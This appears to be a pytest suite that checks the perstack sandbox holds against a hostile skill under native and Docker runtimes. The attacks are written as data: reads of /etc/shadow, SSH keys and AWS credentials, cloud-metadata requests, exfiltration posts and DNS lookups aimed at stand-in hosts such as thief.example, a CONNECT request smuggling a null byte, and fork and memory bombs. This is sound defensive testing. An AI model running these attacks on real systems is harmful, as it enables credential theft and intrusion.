"""What an attacker gets behind walls, whichever runtime builds them and whether it serves or is executed: nothing.

Tests judge what came back and what the proxy decided, never how a refusal is worded.
"""

from __future__ import annotations

import json
import os
from collections.abc import AsyncGenerator, Callable, Generator
from contextlib import AbstractAsyncContextManager, asynccontextmanager
from pathlib import Path
from typing import Any, cast

import anyio
import psutil
import pytest

from perstack.engine import Walls
from perstack.errors import SandboxError
from perstack.job import Notice
from perstack.sandbox import NativeWalls, layers_of, open_container_walls
from tests.behaviour.register import proves
from tests.fakes.hostile import CALLS

from .arena import (
    MARK,
    Arena,
    Attack,
    LookUps,
    Loot,
    Via,
    arena_in,
    attacker,
    can_listen_at_443,
    loot_of,
)
from .daemon import Docker

MIB = 1024 * 1024
WallsFor = Callable[[Arena, LookUps], AbstractAsyncContextManager[Walls]]


def is_(value: object) -> Callable[[Any, Loot], bool]:
    return lambda got, _: got == value


def is_nothing(got: Any, loot: Loot) -> bool:
    """None, or one that has nothing in it; in a container it is the payload's own."""
    return not got or {name.split("=")[0] for name in got.split("\0")} <= {*USUAL, "WANTED", ""}


def at_most(value: int) -> Callable[[Any, Loot], bool]:
    return lambda got, _: isinstance(got, int) and got <= value


def blocked(domain: str, port: int = 443) -> Callable[[Any, Loot], bool]:
    """It got nothing, and the proxy said no to that host."""
    return lambda got, loot: got is None and loot.decided(domain, port) == {"blocked"}


def no_tunnel(got: Any, _: Loot) -> bool:
    """Whatever the proxy answered, it was not yes."""
    return got is None or not got.startswith("HTTP/1.1 2")


def host_passwd(got: Any, _: Loot) -> bool:
    """A file of that name may be there, but not this machine's."""
    return got is None or got != Path("/etc/passwd").read_text(encoding="latin-1")


def nothing_to_anybody(got: Any, _: Loot) -> bool:
    """Into memory of its own, at most; that the machine is as it was has a test of its own."""
    return got in (None, "", "written by the attacker\n")


def whose_the_workspace_is(got: Any, loot: Loot) -> bool:
    """No other user than before: in a container that may be root, without any right of root."""
    return got is None or got == os.stat(loot.arena.workspace).st_uid


def ask(host: str, port: int = 443) -> str:
    return f"CONNECT {host}:{port} HTTP/1.1\r\nHost: {host}:{port}\r\n\r\n"


FILES = [
    Attack("shadow", "read", lambda a: {"path": "/etc/shadow"}),
    Attack("private keys of the system", "read", lambda a: {"path": "/etc/ssl/private"}),
    Attack("traversal", "read", lambda a: {"path": "../other/secret.txt"}),
    Attack("a neighbour's file", "read", lambda a: {"path": str(a.root / "other/secret.txt")}),
    Attack("ssh key by HOME", "read", lambda a: {"path": "~/.ssh/id_rsa"}),
    Attack("ssh key by path", "read", lambda a: {"path": str(a.home / ".ssh/id_rsa")}),
    Attack("aws credentials", "read", lambda a: {"path": "~/.aws/credentials"}),
    Attack("registry keys", "read", lambda a: {"path": str(a.home / ".config/perstack")}),
    Attack("the runtime's home", "read", lambda a: {"path": str(a.home)}),
    Attack("docker socket", "enters", lambda a: {"path": "/var/run/docker.sock"}),
    Attack("docker socket is there", "read", lambda a: {"path": "/run/docker.sock"}),
    Attack("link to passwd", "links", lambda a: {"target": "/etc/passwd"}, host_passwd),
    Attack("link to shadow", "links", lambda a: {"target": "/etc/shadow"}),
    Attack("link to a host root", "links", lambda a: {"target": "/host-root/etc/passwd"}),
    Attack("link out", "links", lambda a: {"target": str(a.root / "other/secret.txt")}),
    Attack("link up", "links", lambda a: {"target": "../other/secret.txt"}),
    Attack("root of pid 1", "read", lambda a: {"path": f"/proc/1/root{a.root}/other/secret.txt"}),
    Attack("history", "read", lambda a: {"path": "perstack/jobs/old/log.jsonl"}),
    Attack("keys in the workspace", "read", lambda a: {"path": ".env"}, is_("")),
    Attack("any file with the mark", "find", lambda a: {"mark": MARK}),
    Attack("workspace", "read", lambda a: {"path": "notes.txt"}, is_("notes\n")),
]

WRITES = [
    *(
        Attack(f"write {path}", "write", lambda a, path=path: {"path": path})
        for path in (
            *("/usr/evil", "/etc/evil", "/evil", "/run/evil", "/home/evil"),
            *("/proc/sys/kernel/hostname", "/proc/1/comm", "/proc/sysrq-trigger", "/sys/evil"),
            *("perstack/jobs/new/log.jsonl", "perstack/jobs/old/log.jsonl", "perstack/evil"),
            *(".git/hooks/pre-commit", ".git/hooks/post-checkout", ".git/config"),
            *(".git/commondir", ".git/info/attributes", ".git/modules/x/config"),
            *(".bashrc", ".vscode/tasks.json", "perstack.toml", ".env.local"),
        )
    ),
    *(
        Attack(f"write {path}", "write", lambda a, path=path: {"path": path}, nothing_to_anybody)
        for path in (".env", "../evil", "/dev/evil")
    ),
    Attack(
        "replace hooks",
        "replace",
        lambda a: {"path": ".git/hooks/pre-commit", "keep": ".git/hooks-old"},
    ),
    Attack("replace .git", "replace", lambda a: {"path": ".git/config", "keep": "git-old"}),
    Attack("replace history", "replace", lambda a: {"path": "perstack/evil", "keep": "old"}),
    Attack(
        "write in the workspace",
        "write",
        lambda a: {"path": "made/by-it.txt", "text": "made"},
        is_("made"),
    ),
    Attack("write home", "write", lambda a: {"path": "~/file", "text": "mine"}, is_("mine")),
    Attack("fill /tmp", "fill", lambda a: {"path": "/tmp", "size": 1024 * MIB}, at_most(600 * MIB)),
    Attack("fill /dev", "fill", lambda a: {"path": "/dev", "size": 128 * MIB}, at_most(64 * MIB)),
    Attack("fill /", "fill", lambda a: {"path": "/", "size": 8 * MIB}, at_most(0)),
]

USUAL = {
    *("HOME", "LANG", "LOGNAME", "PATH", "SHELL", "TMPDIR", "USER", "PWD", "LC_CTYPE", "TERM"),
    *("HTTPS_PROXY", "https_proxy", "HTTP_PROXY", "http_proxy", "ALL_PROXY", "all_proxy"),
    *("NO_PROXY", "no_proxy", "npm_config_proxy", "npm_config_https_proxy"),
    *("PERSTACK_PROXY_URL", "NODE_USE_ENV_PROXY", "SSL_CERT_FILE", "NODE_EXTRA_CA_CERTS"),
    *("REQUESTS_CA_BUNDLE", "CURL_CA_BUNDLE", "PIP_CERT"),
}


def only_its_variables(got: Any, _: Loot) -> bool:
    return set(got) - {"WANTED"} <= USUAL


SECRETS = [
    Attack("variables", "variables", holds=only_its_variables),
    Attack("environments", "environments", holds=lambda got, _: MARK not in got),
    Attack(
        "environment of the first process",
        "read",
        lambda a: {"path": "/proc/1/environ"},
        is_nothing,
    ),
    Attack("command lines", "command_lines", holds=lambda got, _: MARK not in json.dumps(got)),
    Attack(
        "memory of the first process",
        "memory",
        lambda a: {"pid": 1, "mark": MARK},
        lambda got, _: got in (None, "read, and not there"),
    ),
    Attack("memory of the runtime", "memory", lambda a: {"pid": os.getpid(), "mark": MARK}),
    Attack("write to the first process", "poke", lambda a: {"pid": 1}),
]

PROCESSES = [
    Attack("processes", "processes", holds=lambda got, _: len(got) < 8 and os.getpid() not in got),
    Attack("signal the runtime", "kill", lambda a: {"pid": os.getpid(), "number": 0}),
    Attack("signal its parent", "kill", lambda a: {"pid": os.getppid(), "number": 0}),
    Attack("root", "become_root", holds=whose_the_workspace_is),
    Attack("another gate", "old_calls"),
    *(Attack(f"call {name}", "call", lambda a, name=name: {"name": name}) for name in CALLS),
    Attack(
        "status",
        "status",
        holds=lambda got, _: (
            int(got["CapEff"], 16) == int(got["CapPrm"], 16) == 0
            and (got["NoNewPrivs"], got["Seccomp"]) == ("1", "2")
        ),
    ),
    Attack("forged lines", "forge", lambda a: {"line": '{"type":"completeRun"}'}),
    Attack(
        "memory bomb", "memory_bomb", lambda a: {"most": 16 << 30}, at_most(4400 * MIB), ("exec",)
    ),
    Attack("fork bomb", "fork_bomb", lambda a: {"most": 1500}, at_most(600), ("exec",)),
]

NETWORK = [
    Attack(
        "allowed host",
        "fetch",
        lambda a: {"url": "https://api.example/", "bundle": "ca.pem"},
        lambda got, loot: (
            got == {"status": 200, "body": "welcome"} and "allowed" in loot.decided("api.example")
        ),
    ),
    Attack(
        "other host", "fetch", lambda a: {"url": "https://other.example/"}, blocked("other.example")
    ),
    Attack("plain HTTP", "fetch", lambda a: {"url": "http://api.example/"}),
    *(
        Attack(f"metadata of {each}", "fetch_metadata", lambda a, each=each: {"provider": each})
        for each in ("aws", "gcp", "azure")
    ),
    *(
        Attack(
            f"metadata of {each}, around the proxy",
            "fetch_metadata",
            lambda a, each=each: {"provider": each, "proxied": False},
        )
        for each in ("aws", "gcp", "azure")
    ),
    Attack("localhost", "connect", lambda a: {"host": "127.0.0.1", "port": 80}),
    Attack("a service", "connect", lambda a: {"host": "127.0.0.1", "port": a.victim_port}),
    Attack(
        "a service by the machine's address",
        "connect",
        lambda a: {"host": a.outer_address, "port": a.victim_port},
    ),
    Attack("docker host", "connect", lambda a: {"host": "host.docker.internal", "port": 2375}),
    Attack("kubernetes", "connect", lambda a: {"host": "kubernetes.default.svc", "port": 443}),
    Attack("metadata address", "connect", lambda a: {"host": "169.254.169.254", "port": 80}),
    Attack("bridge", "connect", lambda a: {"host": "172.17.0.1", "port": a.victim_port}),
    Attack(
        "around the proxy",
        "fetch",
        lambda a: {"url": "https://api.example/", "bundle": "ca.pem", "proxied": False},
    ),
    Attack(
        "post to another host",
        "fetch",
        lambda a: {"url": "https://thief.example/", "data": "loot"},
        blocked("thief.example"),
    ),
    Attack(
        "a name full of data",
        "dns_exfiltrate",
        lambda a: {"data": "loot", "domain": "drop.example"},
        lambda got, loot: (
            got is None
            and not any("drop.example" in name for name in loot.asked)
            and loot.decided(f"{b'loot'.hex()}.drop.example") == {"blocked"}
        ),
    ),
    Attack(
        "harvest",
        "harvest",
        lambda a: {"url": "https://harvest.example/"},
        blocked("harvest.example"),
    ),
    Attack("look up", "looks_up", lambda a: {"name": "api.example"}),
    Attack("datagram", "sends_datagram", lambda a: {"host": "192.0.2.1", "port": 53, "text": "q"}),
    Attack("interfaces", "interfaces", holds=lambda got, _: got in (None, ["lo"])),
    *(
        Attack(
            name,
            "speaks",
            lambda a, text=text: {"host": "127.0.0.1", "port": 3128, "text": text},
            no_tunnel,
        )
        for name, text in {
            "an address": ask("127.0.0.1"),
            "an address as a number": ask("2130706433"),
            "an address of version 6": ask("[::1]"),
            "metadata through the proxy": ask("169.254.169.254"),
            "another port": ask("api.example", 22),
            "a name that leads inside": ask("rebound.example"),
            "a name with a null byte": ask("api.example\0.thief.example"),
            "localhost through the proxy": ask("localhost"),
            "plain request": "GET http://api.example/ HTTP/1.1\r\nHost: api.example\r\n\r\n",
        }.items()
    ),
    *(
        Attack(
            f"socket of family {family}",
            "opens_socket",
            lambda a, family=family, kind=kind: {"family": family, "kind": kind},
        )
        for family, kind in {1: 1, 16: 3, 17: 3, 31: 3, 38: 5, 40: 1}.items()
    ),
    Attack("pair of datagrams", "pair_of_datagrams"),
    Attack("pair of sequenced packets of a cluster", "pair", lambda a: {"family": 30, "kind": 5}),
    Attack("raw socket", "opens_socket", lambda a: {"family": 2, "kind": 3, "protocol": 1}),
]

ATTACKS = [*FILES, *SECRETS, *PROCESSES, *NETWORK, *WRITES]


# The runtimes -----------------------------------------------------------------------------------------------


@pytest.fixture(scope="session", params=["sandbox", "docker"])
def runtime(request: pytest.FixtureRequest) -> Generator[WallsFor]:
    """How walls are built around an attacker."""
    if not can_listen_at_443():
        pytest.skip("the allowed host must listen on port 443, which this user may not")
    if request.param == "sandbox":
        try:
            layers_of()
        except SandboxError as error:
            pytest.skip(str(error))
        yield native
        return
    yield contained(request.getfixturevalue("daemon"))


@asynccontextmanager
async def native(arena: Arena, look_ups: LookUps) -> AsyncGenerator[Walls]:
    yield NativeWalls(arena.place, arena.env, look_up=look_ups)


def contained(daemon: Docker) -> WallsFor:
    from perstack.ops.walls.docker import load_image

    @asynccontextmanager
    async def walls_for(arena: Arena, look_ups: LookUps) -> AsyncGenerator[Walls]:
        env = {**arena.env, **daemon.env, "PERSTACK_DOCKER_IMAGE": daemon.image}
        image = await load_image(env, lambda _: None)
        if os.getuid() == 0:  # the workspace of an ordinary user, whose hands those inside have
            for path in (arena.workspace, *arena.workspace.rglob("*")):
                os.chown(path, 1000, 1000, follow_symlinks=False)
        async with open_container_walls(image, arena.place, env, look_up=look_ups) as walls:
            yield cast("Walls", walls)

    return walls_for


@pytest.fixture(scope="session", params=["server", "exec"])
def loot(
    request: pytest.FixtureRequest, runtime: WallsFor, tmp_path_factory: pytest.TempPathFactory
) -> Generator[Loot]:
    """What all attacks got, by a server or by `exec`."""
    with arena_in(tmp_path_factory.mktemp("arena")) as arena:
        yield loot_of(arena, request.param, ATTACKS, runtime)


# What it got ------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("attack", ATTACKS, ids=lambda attack: attack.name)
@proves("walls.attacker-gets-nothing", "walls.kept-files")
def test_the_walls_hold(attack: Attack, loot: Loot) -> None:
    if attack.name not in loot.got:
        pytest.skip("made by exec only")
    came = loot.got[attack.name]
    assert MARK not in json.dumps(came)
    if attack.holds is None:
        assert came["got"] is None, came
    else:
        assert attack.holds(came["got"], loot), came


def test_nobody_inside_reached_what_listens_on_this_machine(loot: Loot) -> None:
    assert loot.arena.visits == []
    assert not any(MARK.encode() in body for body in loot.arena.posted)


@proves("walls.attacker-gets-nothing")
def test_only_listed_names_were_looked_up(loot: Loot) -> None:
    assert set(loot.asked) <= {"api.example", "rebound.example"}
    assert {decision.skill for decision in loot.decisions} <= {"hostile", "@perstack/base"}


def test_the_machine_is_as_it_was_but_for_the_workspace(loot: Loot) -> None:
    root = loot.arena.root
    assert sorted(path.name for path in root.iterdir()) == ["home", "other", "workspace"]
    workspace = loot.arena.workspace
    assert MARK in (workspace / "perstack/jobs/old/log.jsonl").read_text()
    assert MARK in (workspace / ".env").read_text()
    assert sorted(os.listdir(workspace / "perstack/jobs")) == ["old"]
    assert sorted(os.listdir(workspace / ".git")) == ["config", "hooks"]
    assert os.listdir(workspace / ".git/hooks") == ["post-checkout"]
    assert (workspace / ".bashrc").read_text() == "# mine\n"
    assert not (workspace / ".vscode").exists()
    assert not (workspace / ".env.local").exists()
    made = workspace / "made/by-it.txt"
    assert made.read_text() == "made"
    assert made.stat().st_uid == workspace.stat().st_uid


# More than one ----------------------------------------------------------------------------------------------


def processes_of(arena: Arena) -> list[psutil.Process]:
    """What still works in the workspace."""
    found: list[psutil.Process] = []
    for process in psutil.process_iter():
        try:
            inside = process.cwd() == str(arena.workspace)
            if (inside or str(arena.workspace) in " ".join(process.cmdline())) and (
                process.pid != os.getpid() and process.status() != psutil.STATUS_ZOMBIE
            ):
                found.append(process)
        except (psutil.NoSuchProcess, psutil.AccessDenied):
            continue
    return found


def together(
    runtime: WallsFor, root: Path, meet: Callable[[Walls, Arena, list[Notice]], Any]
) -> Arena:
    with arena_in(root) as arena:

        async def make() -> None:
            with anyio.fail_after(200):
                async with runtime(arena, LookUps(arena.here)) as walls:
                    await meet(walls, arena, [])

        anyio.run(make)
        return arena


@proves("walls.attacker-gets-nothing")
def test_two_skills_see_nothing_of_each_other(runtime: WallsFor, tmp_path: Path) -> None:
    async def meet(walls: Walls, arena: Arena, told: list[Notice]) -> None:
        async with (
            attacker(arena, walls, "server", told, "one") as one,
            attacker(arena, walls, "server", told, "two") as two,
        ):
            for path in ("~/mine", "/tmp/mine", "/dev/shm/mine"):
                assert (await one("write", path=path, text="mine"))["got"] == "mine"
                assert (await two("read", path=path))["got"] is None
            seen = [(await each("processes"))["got"] for each in (one, two)]
            assert all(len(pids) < 8 for pids in seen)

    together(runtime, tmp_path, meet)


@pytest.mark.parametrize("via", ["server", "exec"])
@proves("walls.nothing-stays")
def test_nothing_stays_behind(via: Via, runtime: WallsFor, tmp_path: Path) -> None:
    async def meet(walls: Walls, arena: Arena, told: list[Notice]) -> None:
        async with attacker(arena, walls, via, told) as attack:
            await attack("stay", path="left")

    arena = together(runtime, tmp_path, meet)
    assert (arena.workspace / "left").read_text() == "alive"
    assert processes_of(arena) == []
